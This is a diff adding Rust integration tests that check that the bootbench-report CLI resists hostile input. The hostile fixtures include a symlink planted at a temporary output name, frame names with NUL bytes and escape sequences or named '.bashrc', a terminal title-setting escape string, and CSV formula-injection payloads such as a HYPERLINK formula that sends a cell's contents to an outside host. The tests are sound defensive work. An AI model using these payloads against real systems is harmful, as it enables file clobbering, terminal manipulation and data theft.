@@ -1270,3 +1270,370 @@ fn html_shows_each_members_share_under_its_array_and_layer() {
         assert!(!html.contains("class=\"members\""), "{f}");
     }
 }
+
+// ------------------------------------------------- outputs and hostile input
+
+/// Run bootbench-report with `args`, one of which is the FIFO `fifo`, and
+/// feed it `input` there once `plant` has been called with the child's
+/// process id: so a test knows, before the child writes anything, the
+/// names that hold its pid. No timing: the child cannot write before it
+/// has read its input to the end, and the input comes after `plant`.
+fn run_fed(args: &[&str], fifo: &Path, input: Vec<u8>, plant: impl FnOnce(u32)) -> Output {
+    let made = Command::new("mkfifo").arg(fifo).status().expect("mkfifo");
+    assert!(made.success(), "mkfifo {}", fifo.display());
+    let child = Command::new(BIN)
+        .args(args)
+        .current_dir(env!("CARGO_MANIFEST_DIR"))
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .expect("run bootbench-report");
+    plant(child.id());
+    // Opening the FIFO for writing waits for the child to open it; if the
+    // child never does, the thread stays blocked and the test fails on
+    // what the child said (it is not joined then).
+    let path = fifo.to_path_buf();
+    let feeder = std::thread::spawn(move || {
+        use std::io::Write as _;
+        let mut f = fs::OpenOptions::new().write(true).open(&path).expect("open the FIFO");
+        f.write_all(&input).expect("feed the FIFO");
+    });
+    let out = child.wait_with_output().expect("wait for bootbench-report");
+    if feeder.is_finished() {
+        feeder.join().expect("the feeder");
+    }
+    out
+}
+
+/// A symlink planted at the temporary name an output was written under
+/// (`.<name>.tmp-<pid>` in its directory, before this fix) is never
+/// written through: the file it points to keeps its bytes, the output is
+/// a regular file holding the document, and the link is left as it was.
+/// For `extract -o DIR`, `html -o FILE` and `fleet --html FILE`.
+#[test]
+fn outputs_never_write_through_a_link_planted_at_their_temporary_name() {
+    let dir = scratch("planted-link");
+    let out = dir.join("out");
+    fs::create_dir_all(&out).unwrap();
+    let victim = dir.join("victim.txt");
+    let doc = fs::read(fixtures().join(READ_ERROR)).unwrap();
+    let n = frame::Nonce([0x11; 16]);
+    let log = frame::announce(n) + &frame::encode("srv-1.json", br#"{"x":1}"#, n);
+    // (the output's name, the command before its input, the input)
+    let cases: [(&str, &str, Vec<u8>); 3] = [
+        ("srv-1.json", "extract", log.into_bytes()),
+        ("report.html", "html", doc.clone()),
+        ("fleet.html", "fleet", doc),
+    ];
+    for (name, cmd, input) in cases {
+        fs::write(&victim, "precious\n").unwrap();
+        let fifo = dir.join(format!("{name}.fifo"));
+        let target = out.join(name);
+        // extract LOG -o DIR; html and fleet FILE -o FILE
+        let dest = if cmd == "extract" { &out } else { &target };
+        let args = [
+            cmd.to_string(),
+            fifo.display().to_string(),
+            "-o".into(),
+            dest.display().to_string(),
+        ];
+        let argv: Vec<&str> = args.iter().map(String::as_str).collect();
+        let mut planted = PathBuf::new();
+        let o = run_fed(&argv, &fifo, input, |pid| {
+            planted = out.join(format!(".{name}.tmp-{pid}"));
+            std::os::unix::fs::symlink(&victim, &planted).unwrap();
+        });
+        assert!(o.status.success(), "{name}: {:?}: {}", o.status, stderr(&o));
+        assert_eq!(
+            fs::read_to_string(&victim).unwrap(),
+            "precious\n",
+            "{name}: the planted link's target is not written"
+        );
+        let meta = fs::symlink_metadata(&target).unwrap();
+        assert!(
+            meta.file_type().is_file(),
+            "{name}: a regular file, not the planted link"
+        );
+        assert!(fs::read(&target).unwrap().len() > 5, "{name}: the document");
+        assert_eq!(
+            fs::read_link(&planted).ok().as_deref(),
+            Some(victim.as_path()),
+            "{name}: the planted link is left as it was"
+        );
+        fs::remove_file(&planted).unwrap();
+        fs::remove_file(&target).unwrap();
+    }
+    let left: Vec<_> = fs::read_dir(&out).unwrap().map(|e| e.unwrap().file_name()).collect();
+    assert!(left.is_empty(), "no temporary file left: {left:?}");
+    let _ = fs::remove_dir_all(&dir);
+}
+
+/// `extract` never replaces a file: a document of the same name already in
+/// the directory (an earlier boot's `<machine>.json`) stays, the new one
+/// takes the next numbered name (`<stem>.2.<ext>`, as two frames of one
+/// name in one log do), and a note says so.
+#[test]
+fn extract_never_replaces_a_document_already_there() {
+    let dir = scratch("extract-keep");
+    let out = dir.join("out");
+    fs::create_dir_all(&out).unwrap();
+    fs::write(out.join("unknown.json"), "the first boot's\n").unwrap();
+    fs::write(out.join("unknown.2.json"), "the second boot's\n").unwrap();
+    let n = frame::Nonce([0x21; 16]);
+    let log = frame::announce(n)
+        + &frame::encode("unknown.json", br#"{"boot":3}"#, n)
+        + &frame::encode("unknown.json", br#"{"boot":3,"again":1}"#, n);
+    let path = dir.join("console.log");
+    fs::write(&path, &log).unwrap();
+    let o = run(&["extract", path.to_str().unwrap(), "-o", out.to_str().unwrap()]);
+    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
+    assert_eq!(
+        fs::read_to_string(out.join("unknown.json")).unwrap(),
+        "the first boot's\n"
+    );
+    assert_eq!(
+        fs::read_to_string(out.join("unknown.2.json")).unwrap(),
+        "the second boot's\n"
+    );
+    assert_eq!(fs::read_to_string(out.join("unknown.3.json")).unwrap(), r#"{"boot":3}"#);
+    assert_eq!(
+        fs::read_to_string(out.join("unknown.4.json")).unwrap(),
+        r#"{"boot":3,"again":1}"#
+    );
+    assert_eq!(
+        stdout(&o),
+        format!(
+            "{}\n{}\n",
+            out.join("unknown.3.json").display(),
+            out.join("unknown.4.json").display()
+        )
+    );
+    let err = stderr(&o);
+    assert!(
+        err.contains(&format!(
+            "{}:2: {} is there already: written as unknown.3.json",
+            path.display(),
+            out.join("unknown.json").display()
+        )),
+        "{err}"
+    );
+    assert!(
+        err.contains(&format!(
+            "{}:5: a second frame named unknown.json: written as unknown.4.json",
+            path.display()
+        )),
+        "{err}"
+    );
+    let _ = fs::remove_dir_all(&dir);
+}
+
+/// A frame whose name cannot be a file name (longer than 255 bytes, a NUL,
+/// control characters, a leading dot) is one refused frame with its
+/// reason; the frames after it, the real boot's, are written.
+#[test]
+fn extract_refuses_a_frame_whose_name_cannot_be_a_file_and_writes_the_rest() {
+    let dir = scratch("extract-bad-name");
+    let out = dir.join("out");
+    let real = fs::read(fixtures().join(RAID_A)).unwrap();
+    let n = frame::Nonce([0x31; 16]);
+    let long = format!("{}.json", "a".repeat(300));
+    let log = frame::announce(n)
+        + &frame::encode(&long, b"{}", n)
+        + &frame::encode("nul\0.json", b"{}", n)
+        + &frame::encode("esc\u{1b}[2J.json", b"{}", n)
+        + &frame::encode(".bashrc", b"{}", n)
+        + &frame::encode("real-1.json", &real, n);
+    let path = dir.join("console.log");
+    fs::write(&path, &log).unwrap();
+    let o = run(&["extract", path.to_str().unwrap(), "-o", out.to_str().unwrap()]);
+    assert_eq!(o.status.code(), Some(1), "refused frames: exit 1; {}", stderr(&o));
+    assert_eq!(stdout(&o), format!("{}\n", out.join("real-1.json").display()));
+    assert_eq!(fs::read(out.join("real-1.json")).unwrap(), real);
+    let names: Vec<String> = fs::read_dir(&out)
+        .unwrap()
+        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+        .collect();
+    assert_eq!(names, ["real-1.json"]);
+    let err = stderr(&o);
+    let log_name = path.display();
+    for want in [
+        format!("{log_name}:2: frame {long}: refused: the name is 305 bytes long; a file name holds at most 255"),
+        format!("{log_name}:5: frame nul\\x00.json: refused: the name holds a NUL byte, which no file name can"),
+        format!("{log_name}:8: frame esc\\x1b[2J.json: refused: the name holds a control character (U+001B)"),
+        format!("{log_name}:11: frame .bashrc: refused: the name starts with a dot (a hidden file)"),
+    ] {
+        assert!(err.contains(&want), "{want}\nin\n{err}");
+    }
+    assert!(
+        err.contains("0 damaged and 4 refused frame(s) not written, 1 document(s) written"),
+        "{err}"
+    );
+    let _ = fs::remove_dir_all(&dir);
+}
+
+/// A frame that cannot be written (here: larger than the file size limit,
+/// `ulimit -f`, with SIGXFSZ ignored so the write fails with EFBIG) is said
+/// with its error; the frames after it are written; exit 2 at the end.
+#[test]
+fn extract_goes_on_after_a_frame_it_cannot_write() {
+    let dir = scratch("extract-efbig");
+    let out = dir.join("out");
+    let n = frame::Nonce([0x41; 16]);
+    let big = vec![b' '; 64 * 1024];
+    let log =
+        frame::announce(n) + &frame::encode("big-1.json", &big, n) + &frame::encode("small-1.json", br#"{"x":1}"#, n);
+    let path = dir.join("console.log");
+    fs::write(&path, &log).unwrap();
+    // 16 blocks of 512 bytes: 8 KiB.
+    let o = Command::new("sh")
+        .args([
+            "-c",
+            "trap '' XFSZ; ulimit -f 16 && exec \"$@\"",
+            "sh",
+            BIN,
+            "extract",
+            path.to_str().unwrap(),
+            "-o",
+            out.to_str().unwrap(),
+        ])
+        .output()
+        .expect("run bootbench-report under ulimit -f");
+    assert_eq!(o.status.code(), Some(2), "a frame not written: exit 2; {}", stderr(&o));
+    assert_eq!(stdout(&o), format!("{}\n", out.join("small-1.json").display()));
+    assert_eq!(fs::read_to_string(out.join("small-1.json")).unwrap(), r#"{"x":1}"#);
+    let err = stderr(&o);
+    assert!(
+        err.contains(&format!(
+            "{}:2: frame big-1.json: cannot write {}: File too large (os error 27)",
+            path.display(),
+            out.join("big-1.json").display()
+        )),
+        "{err}"
+    );
+    assert!(
+        err.contains("1 frame(s) could not be written, 1 document(s) written"),
+        "{err}"
+    );
+    let names: Vec<String> = fs::read_dir(&out)
+        .unwrap()
+        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+        .collect();
+    assert_eq!(names, ["small-1.json"], "no temporary file left");
+    let _ = fs::remove_dir_all(&dir);
+}
+
+/// True if `s` holds a byte a terminal acts on (C0 controls but the line
+/// feed, DEL, and the C1 controls as UTF-8).
+fn has_control(s: &str) -> bool {
+    s.chars().any(|c| c != '\n' && c.is_control())
+}
+
+/// Every message that quotes input escapes it as the console does
+/// (`bench_core::console::safe`): a `status.state` with ESC, OSC and BEL in
+/// `show`, `csv`, `compare` and `fleet`'s errors and warnings, a file name
+/// with ESC, and frame names in `extract`'s damaged and refused lines.
+#[test]
+fn messages_escape_what_they_quote() {
+    let dir = scratch("escape");
+    let hostile = "\u{1b}]0;pwned\u{7}\u{1b}[2J";
+    let escaped = "\\x1b]0;pwned\\x07\\x1b[2J";
+    let real = fs::read_to_string(fixtures().join(READ_ERROR)).unwrap();
+    let bad = real.replacen(
+        "\"state\": \"error\"",
+        &format!("\"state\": {}", serde_json::json!(hostile)),
+        1,
+    );
+    assert_ne!(bad, real);
+    let p = dir.join("state.json");
+    fs::write(&p, &bad).unwrap();
+    let ps = p.to_str().unwrap();
+    let raid = fx(RAID_A);
+    for args in [
+        vec!["show", ps],
+        vec!["csv", ps],
+        vec!["compare", &raid, ps],
+        vec!["fleet", ps, &raid],
+    ] {
+        let o = run(&args);
+        let err = stderr(&o);
+        assert!(!has_control(&err), "{args:?}: raw control characters: {err:?}");
+        assert!(err.contains(escaped), "{args:?}: {err}");
+    }
+    // A file name with an escape sequence, in fleet's warning.
+    let sub = dir.join("rack");
+    fs::create_dir_all(&sub).unwrap();
+    fs::copy(fixtures().join(RAID_A), sub.join("a.json")).unwrap();
+    fs::write(sub.join(format!("{hostile}.json")), "[]").unwrap();
+    let o = run(&["fleet", sub.to_str().unwrap()]);
+    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
+    let err = stderr(&o);
+    assert!(!has_control(&err), "raw control characters: {err:?}");
+    assert!(
+        err.contains(&format!("{escaped}.json: not a bootbench result document")),
+        "{err}"
+    );
+
+    // extract: a damaged frame and a refused one, both named with escapes.
+    let n = frame::Nonce([0x51; 16]);
+    let mut damaged = frame::encode(&format!("{hostile}-1.json"), b"{\"x\":1}", n);
+    let at = damaged.find('\n').unwrap() + 3;
+    let c = if &damaged[at..=at] == "A" { "B" } else { "A" };
+    damaged.replace_range(at..=at, c);
+    let log =
+        frame::announce(n) + &damaged + &frame::encode(&format!("{hostile}-2.json"), b"{}", frame::Nonce([0; 16]));
+    let path = dir.join("console.log");
+    fs::write(&path, &log).unwrap();
+    let o = run(&[
+        "extract",
+        path.to_str().unwrap(),
+        "-o",
+        dir.join("out").to_str().unwrap(),
+    ]);
+    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
+    let err = stderr(&o);
+    assert!(!has_control(&err), "raw control characters: {err:?}");
+    assert!(err.contains(&format!("frame {escaped}-1.json: damaged")), "{err}");
+    assert!(err.contains(&format!("frame {escaped}-2.json: refused")), "{err}");
+    let _ = fs::remove_dir_all(&dir);
+}
+
+/// A CSV text cell that a spreadsheet would run as a formula (starting
+/// with `=`, `+`, `-`, `@`, tab or carriage return: OWASP's CSV injection
+/// list) starts with a `'`; figures, negative ones too, stay numbers.
+#[test]
+fn csv_text_cells_never_start_a_formula() {
+    let real: serde_json::Value =
+        serde_json::from_str(&fs::read_to_string(fixtures().join(READ_ERROR)).unwrap()).unwrap();
+    let dir = scratch("csv-formula");
+    for text in ["=HYPERLINK(\"http://x/\"&A1)", "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"] {
+        let mut v = real.clone();
+        mutate(&mut v, text, -1.5, 7);
+        let p = dir.join("doc.json");
+        fs::write(&p, v.to_string()).unwrap();
+        let out = ok(&["csv", p.to_str().unwrap()]);
+        let mut r = ::csv::ReaderBuilder::new()
+            .has_headers(true)
+            .from_reader(out.as_bytes());
+        let header: Vec<String> = r.headers().unwrap().iter().map(String::from).collect();
+        let rows: Vec<::csv::StringRecord> = r.records().map(Result::unwrap).collect();
+        assert!(!rows.is_empty(), "{text:?}");
+        let mut figures = 0;
+        for row in &rows {
+            for (h, cell) in header.iter().zip(row.iter()) {
+                if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+                    assert!(cell.parse::<f64>().is_ok(), "{text:?}: {h} = {cell:?} is no number");
+                }
+            }
+            let col = |name: &str| &row[header.iter().position(|h| h == name).unwrap()];
+            assert_eq!(col("target"), format!("'{text}"), "{text:?}");
+            assert_eq!(col("test"), format!("'{text}"), "{text:?}");
+            assert_eq!(col("file"), p.display().to_string());
+            if !col("read_bytes_per_sec").is_empty() {
+                assert_eq!(col("read_bytes_per_sec"), "-1.5", "a figure stays a number");
+                figures += 1;
+            }
+        }
+        assert!(figures > 0, "{text:?}: a row with a figure");
+    }
+    let _ = fs::remove_dir_all(&dir);
+}
